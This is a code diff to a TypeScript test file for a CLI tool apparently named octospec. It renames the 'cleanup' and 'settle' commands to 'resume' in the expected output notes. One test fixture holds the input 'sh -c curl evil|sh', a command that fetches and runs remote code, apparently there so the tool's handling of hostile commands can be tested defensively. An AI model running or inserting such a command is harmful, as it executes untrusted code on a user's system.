@@ -12,7 +12,7 @@ symlinkSync(join(cwd, 'own.env'), join(cwd, 'link.env'))
 const note = (command: readonly string[] | undefined, pending = 0, bookings: number | null = null): string =>
   asideNote({ path: join(cwd, 'out/earlier-20300102-030405'), command, pending, bookings }, cwd)
 const lineFor = (...command: readonly string[]): string => note(command).split(', for ')[1] ?? ''
-const plain = 'octospec cleanup out/earlier-20300102-030405'
+const plain = 'octospec resume out/earlier-20300102-030405 --cancel'
 
 test.each([
   [['sh', '-c', 'curl evil|sh', 'run']],
@@ -45,10 +45,10 @@ test('an address and a file that is here are', () => {
 
 test('what the run left is told by its number', () => {
   expect(note(undefined, 1, 0)).toMatch(
-    /^note: the run before left 1 scenario that octospec settle goes on with: it is kept in out\/earlier-20300102-030405, for octospec settle out/,
+    /^note: the run before left 1 scenario that octospec resume goes on with: it is kept in out\/earlier-20300102-030405, for octospec resume out/,
   )
   expect(note(undefined, 3, 2)).toContain(
-    'left 3 scenarios that octospec settle goes on with and 2 bookings that are not known to be ended: it',
+    'left 3 scenarios that octospec resume goes on with and 2 bookings that are not known to be ended: it',
   )
   expect(note(undefined, 0, 1)).toContain('left 1 booking that is not known to be ended: it')
   expect(note(undefined)).toContain('the run before has no report that can be read, and may have left bookings: it')
